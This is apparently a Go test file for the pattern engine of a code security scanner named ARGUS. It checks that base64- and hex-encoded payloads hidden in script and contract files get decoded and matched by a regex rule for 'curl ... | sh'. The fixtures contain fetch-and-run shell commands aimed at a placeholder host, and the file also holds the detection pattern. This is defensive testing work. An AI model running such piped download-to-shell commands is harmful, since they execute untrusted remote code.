package pattern_test

import (
	"encoding/base64"
	"encoding/hex"
	"testing"

	"github.com/cagmero/ARGUS/internal/engine/pattern"
	"github.com/cagmero/ARGUS/internal/rules"
	"github.com/cagmero/ARGUS/internal/types"
	"github.com/stretchr/testify/require"
)

func shellRule(t *testing.T) *rules.CompiledRule {
	return compileTestRule(t, rules.RawRule{
		ID:       "encoded-shell",
		Name:     "Encoded shell command",
		Severity: "HIGH",
		Patterns: []rules.RawPattern{
			{Type: rules.PatternRegex, Value: `(?i)curl\s+\S+\s*\|\s*sh`},
		},
	})
}

func TestDecodeAndRescanBase64(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte("curl https://example.invalid/x | sh"))
	pf := parse("run.js", types.FileTypeScript, "const a = 1;\nconst payload = \""+encoded+"\";\n")

	matches := pattern.DecodeAndRescan(pf, []*rules.CompiledRule{shellRule(t)})
	require.Len(t, matches, 1)
	require.Equal(t, 2, matches[0].Line)
	require.Equal(t, "base64", matches[0].Encoding)
	require.Contains(t, matches[0].Message(), "decoded base64")
}

func TestDecodeAndRescanHex(t *testing.T) {
	encoded := hex.EncodeToString([]byte("curl http://example.invalid | sh"))
	pf := parse("run.teal", types.FileTypeContractASM, "#pragma version 8\nbyte 0x"+encoded+"\npop\n")

	matches := pattern.DecodeAndRescan(pf, []*rules.CompiledRule{shellRule(t)})
	require.NotEmpty(t, matches)
	require.Equal(t, 2, matches[0].Line)
}

func TestDecodeAndRescanNoFalsePositive(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte("just a normal string here"))
	pf := parse("run.js", types.FileTypeScript, "const s = \""+encoded+"\";\n")

	require.Empty(t, pattern.DecodeAndRescan(pf, []*rules.CompiledRule{shellRule(t)}))
}
